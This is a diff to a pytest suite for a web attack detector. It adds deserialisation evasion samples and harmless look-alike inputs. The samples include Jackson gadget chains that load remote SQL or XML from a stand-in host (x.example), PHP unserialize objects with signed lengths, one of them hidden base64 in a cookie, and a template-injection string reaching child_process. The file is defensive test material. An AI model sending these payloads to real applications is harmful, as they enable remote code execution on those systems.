@@ -3,6 +3,7 @@ with the look-alikes a citizen sends beside them."""
 
 from __future__ import annotations
 
+import base64
 from urllib.parse import quote
 
 import pytest
@@ -46,6 +47,10 @@ def header(name: str, value: str) -> Event:
     return _event("/", headers=((name, value),))
 
 
+def _b64(raw: bytes) -> str:
+    return base64.b64encode(raw).decode()
+
+
 def _rules(event: Event) -> set[str]:
     return {h.rule_id.removeprefix("web.") for h in DETECTOR.inspect(event)}
 
@@ -83,6 +88,32 @@ EVASIONS: list[tuple[str, Event]] = [
     ("ssti.arithmetic", q("{{=7*7}}")),
     ("ssti.arithmetic", q("{{! 7*7 }}")),
     ("ssti.object", q("{{= global.process.mainModule.require('child_process') }}")),
+    # Jackson's polymorphic typing as a wrapper array: ["<class>", <value>]
+    (
+        "deserialisation.json-type",
+        api(
+            '["java.util.HashSet",[["ch.qos.logback.core.db.DriverManagerConnectionSource",'
+            '{"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http://x.example/a.sql\'"}]]]'
+        ),
+    ),
+    (
+        "deserialisation.json-type",
+        api(
+            '{"obj":["org.springframework.context.support.ClassPathXmlApplicationContext",'
+            '"http://x.example/spel.xml"]}'
+        ),
+    ),
+    ("deserialisation.json-type", api('["com.zaxxer.hikari.HikariConfig",{"x":"ldap://x/a"}]')),
+    ("deserialisation.json-type", form('["org.apache.Foo$Bar", {"a": 1}]', "data")),
+    (
+        "deserialisation.gadget",
+        form('["ch.qos.logback.core.db.DriverManagerConnectionSource",{}]', "data"),
+    ),
+    # PHP's unserialize reads a signed length
+    ("deserialisation.php", q('O:+8:"stdClass":1:{s:1:"a";s:2:"id";}', "data")),
+    ("deserialisation.php", q('C:+11:"ArrayObject":0:{}', "data")),
+    ("deserialisation.php", q('a:+1:{i:0;O:+4:"Evil":0:{}}', "data")),
+    ("deserialisation.php", header("Cookie", "prefs=" + _b64(b'O:+4:"User":1:{s:4:"role";}'))),
 ]
 
 LOOK_ALIKES: list[Event] = [
@@ -102,6 +133,10 @@ LOOK_ALIKES: list[Event] = [
     form("Paste of my template: {{ }} and {{= name }} and {{=it.street}}"),
     form("Šime wrote #{7} days late; T(otal): 7*7 = 49"),
     q("#{t(shirt)}"),
+    api('{"apps":["com.example.app","org.aldmere.Portal"],"note":"java.util is fine"}'),
+    api('{"packages":["java.util","javax"],"langs":["Java","Kotlin"]}'),
+    form('Our app is com.example.app; I wrote ["java", "rocks"] in the form, Ivana Čović'),
+    form("Score O:+8 in the match, a:+1 for us, C:+2 at home"),
 ]
 
 
